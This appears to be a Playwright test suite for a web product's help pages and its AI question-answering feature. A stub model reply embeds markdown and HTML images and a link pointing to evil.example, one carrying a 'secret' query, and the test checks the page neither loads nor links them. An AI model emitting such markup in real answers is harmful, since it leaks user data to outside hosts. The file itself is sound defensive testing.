"""The help in a browser: read by anybody, asked by whoever is signed in, and loading nothing of anybody else's."""

import json
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, Request, expect

from tests.journeys.looking import assert_accessible, enter
from tests.journeys.pages import demo_with_pages
from tests.journeys.site import Site

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(240)]

SAID = (
    "Paste a key [questions#how-do-i-connect-stripe]. ![x](https://evil.example/?q=secret) <img src=https://evil.example/y>"
    " [here](https://evil.example/z)"
)


def ask(page: Page, question: str) -> None:
    page.get_by_label("Your question").fill(question)
    page.get_by_role("button", name="Ask", exact=True).click()


def test_anybody_reads_and_whoever_is_signed_in_asks(site: Site, phone: BrowserContext) -> None:
    page = phone.new_page()
    page.goto(f"{site.base_url}/help/?page=stripe#live")
    page.get_by_role("heading", name="Connect Stripe in five minutes, test mode first").wait_for()
    assert page.locator("section#live").count() == 1 and page.get_by_label("Your question").count() == 0
    page.get_by_role("link", name="All pages").click()
    page.get_by_role("article").get_by_role("link", name="Limits", exact=True).click()
    page.get_by_role("heading", name="What an app sees").wait_for()
    assert_accessible(page, "help, read")
    page.get_by_role("main").get_by_role("link", name="Sign in").click()
    enter(site, page, f"help-{uuid.uuid4().hex[:8]}@example.org")
    page.get_by_role("heading", name="What an app sees").wait_for()  # the page that was read before
    ask(page, "how do I call it from python?")
    answer = page.get_by_role("region", name="Answer")
    answer.get_by_text(f'base_url="{site.base_url}/v1"').wait_for()
    answer.get_by_role("button", name="Copy the code").first.wait_for()
    answer.get_by_role("listitem").first.get_by_role("link").click()
    cited = page.get_by_role("article").get_by_role("heading", name="How do I call it from Python or JavaScript?")
    expect(cited).to_be_in_viewport()
    assert answer.is_visible(), "the answer stays while its section is read"
    ask(page, "What's the capital of France?")
    answer.get_by_text("I answer questions about this product only").wait_for()
    assert answer.get_by_text("From the guide").count() == 0
    assert_accessible(page, "help, asked")


class Upstream(BaseHTTPRequestHandler):
    """OpenRouter, whose one model says what a test wants, and counts how often."""

    asked = 0

    def do_GET(self) -> None:
        self._answer({"data": []})

    def do_POST(self) -> None:
        type(self).asked += 1
        self.rfile.read(int(self.headers["Content-Length"]))
        message = {"role": "assistant", "content": SAID}
        self._answer({"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]})

    def _answer(self, content: dict[str, Any]) -> None:
        body = json.dumps(content).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        return


@contextmanager
def upstream() -> Iterator[str]:
    with ThreadingHTTPServer(("127.0.0.1", 0), Upstream) as server:
        thread = Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/v1"
        finally:
            server.shutdown()
            thread.join()


def test_what_a_model_says_is_shown_and_loads_nothing(tmp_path: Path, phone: BrowserContext) -> None:
    """(d) "Modes" 12: an answer with an image's address causes no request to another origin."""
    foreign: list[str] = []

    def note(request: Request) -> None:
        if request.url.startswith(("http", "ws")) and not request.url.partition("://")[2].startswith("127.0.0.1"):
            foreign.append(request.url)

    chosen = {"HELP_MODEL": "some/model", "OPENROUTER_KEY": "sk-or-x", "ALLOW_PRIVATE_ADDRESSES": "true"}
    with upstream() as base, demo_with_pages(tmp_path, OPENROUTER_BASE=base, **chosen) as demo:
        page = phone.new_page()
        page.on("request", note)
        page.goto(demo["sign_in"]["end_user"])
        page.get_by_role("button", name="Add funds").wait_for()
        page.goto(f"{demo['base_url']}/help/")
        ask(page, "What's the capital of France?")
        page.get_by_text("I answer questions about this product only").wait_for()
        assert Upstream.asked == 0
        ask(page, "How do I connect Stripe?")
        answer = page.get_by_role("region", name="Answer")
        answer.get_by_text("Paste a key").wait_for()
        assert Upstream.asked == 1 and answer.locator("img").count() == 0
        links = [link.get_attribute("href") for link in answer.get_by_role("link").all()]
        assert links and all(link is not None and link.startswith("/help/?page=") for link in links)
    assert foreign == []
